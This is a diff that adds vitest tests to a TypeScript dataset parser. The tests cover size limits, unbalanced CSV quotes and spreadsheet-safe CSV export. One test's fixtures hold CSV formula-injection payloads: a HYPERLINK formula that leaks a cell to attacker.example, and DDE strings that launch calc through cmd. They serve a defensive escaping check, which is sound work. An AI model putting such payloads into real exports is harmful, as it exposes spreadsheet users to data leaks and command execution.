@@ -1,7 +1,8 @@
 import { existsSync, readFileSync } from 'node:fs';
 import { resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { parseDataset, parseLabel, toCsv, toJsonl, type LabItem } from '@/src/lab/dataset';
+import { parseCsv } from '@/src/lab/csv';
+import { MAX_FILE_BYTES, MAX_TEXT_CHARS, parseDataset, parseLabel, readDatasetFile, toCsv, toJsonl, type LabItem } from '@/src/lab/dataset';
 
 const items: LabItem[] = [
   { id: 'a', text: 'First text, with a comma and "quotes".', label: 'human', group: 'non-native' },
@@ -35,6 +36,37 @@ describe('parseDataset: JSON lines', () => {
     const r = parseDataset(line + '\n', 'dev.jsonl');
     expect(r.problems).toEqual([]);
     expect(r.items).toEqual([{ id: 'm4:x:1', text: 'Some text.', label: 'machine', source: 'S', domain: 'wikihow', lang: 'en', generator: 'llama' }]);
+  });
+
+  it('one oversize item (a 6-million-character line) is reported with its line; the rest loads', () => {
+    const huge = JSON.stringify({ id: 'big', text: 'x'.repeat(6_000_000), label: 'human' });
+    const content = [JSON.stringify({ text: 'First text.', label: 'human' }), huge, JSON.stringify({ text: 'Third text.', label: 'machine' })].join('\n');
+    const t = performance.now();
+    const r = parseDataset(content, 'set.jsonl');
+    expect(performance.now() - t).toBeLessThan(1000);
+    expect(r.items.map((i) => i.text)).toEqual(['First text.', 'Third text.']);
+    expect(r.problems.map(({ line, code, detail }) => ({ line, code, detail }))).toEqual([{ line: 2, code: 'text-too-long', detail: String(MAX_TEXT_CHARS) }]);
+    expect(typeof r.problems[0]?.excerpt).toBe('string');
+    expect(r.problems.map((p) => p.code)).not.toContain('empty-file');
+  });
+
+  it.each([
+    ['JSON lines', (t: string) => `${JSON.stringify({ text: 'ok', label: 'human' })}\n${JSON.stringify({ text: t, label: 'human' })}`, 'set.jsonl', 2],
+    ['CSV', (t: string) => `text,label\nok,human\n${t},human`, 'set.csv', 3],
+  ])('a text just over the limit is refused by name in %s', (_, make, name, line) => {
+    const r = parseDataset(make('y'.repeat(MAX_TEXT_CHARS + 1)), name);
+    expect(r.items.map((i) => i.text)).toEqual(['ok']);
+    expect(r.problems.map((p) => [p.line, p.code])).toEqual([[line, 'text-too-long']]);
+    expect(parseDataset(make('y'.repeat(MAX_TEXT_CHARS)), name).items).toHaveLength(2);
+  });
+
+  it('a file over the lab limit is refused before it is read', async () => {
+    let read = false;
+    const file = { name: 'big.jsonl', size: MAX_FILE_BYTES + 1, text: () => ((read = true), Promise.resolve('')) };
+    expect(await readDatasetFile(file)).toEqual({ items: [], problems: [{ line: 0, code: 'file-too-large', detail: '50' }], format: 'jsonl' });
+    expect(read).toBe(false);
+    const small = { name: 'ok.jsonl', size: 40, text: () => Promise.resolve(JSON.stringify({ text: 'A text.', label: 'human' })) };
+    expect((await readDatasetFile(small)).items).toHaveLength(1);
   });
 
   it('round-trips through toJsonl', () => {
@@ -123,6 +155,25 @@ describe('parseDataset: CSV', () => {
   it('reports an unterminated quote', () => {
     const r = parseDataset('text,label\n"open,human\n', 's.csv');
     expect(r.problems.map((p) => p.code)).toContain('unterminated-quote');
+  });
+
+  it('one unbalanced quote does not swallow the valid rows after it', () => {
+    const r = parseDataset('text,label\n"ok one",human\n"bad quote,machine\nok three,human\n"ok four",machine\n', 's.csv');
+    expect(r.items.map((i) => i.text)).toEqual(['ok one', 'ok three', 'ok four']);
+    expect(r.problems.map((p) => [p.line, p.code])).toEqual([[3, 'unterminated-quote']]);
+  });
+
+  it('a formula set exported to CSV is spreadsheet-safe, and reads back intact', () => {
+    const formulas: LabItem[] = [
+      { id: '=1+1', text: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")', label: 'human', group: '+cmd|\' /C calc\'!A0' },
+      { id: 'b', text: '@SUM(1+1)*cmd|\' /C calc\'!A0', label: 'machine', source: '-2+3' },
+      { id: 'c', text: '\t=1+1 after a tab', label: 'human', domain: '=cmd' },
+      { id: 'd', text: '\r=1+1 after a carriage return', label: 'machine' },
+      { id: 'e', text: "'=already quoted", label: 'machine' },
+    ];
+    const csv = toCsv(formulas);
+    for (const row of parseCsv(csv).rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+    expect(parseDataset(csv, 'set.csv').items).toEqual(formulas);
   });
 
   it.each([
